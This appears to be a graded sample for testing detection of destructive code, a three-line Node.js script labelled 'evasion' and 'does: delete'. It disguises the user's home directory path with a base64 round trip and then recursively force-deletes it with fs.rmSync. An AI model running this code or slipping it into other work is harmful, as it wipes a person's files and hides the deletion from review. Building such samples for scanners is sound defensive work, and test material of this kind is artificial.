// evasion: the home directory base64-encoded and decoded again (Buffer round trip) before it is removed
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const token = Buffer.from(os.homedir(), "utf8").toString("base64");
const dir = Buffer.from(token, "base64").toString("utf8");
fs.rmSync(dir, { recursive: true, force: true });
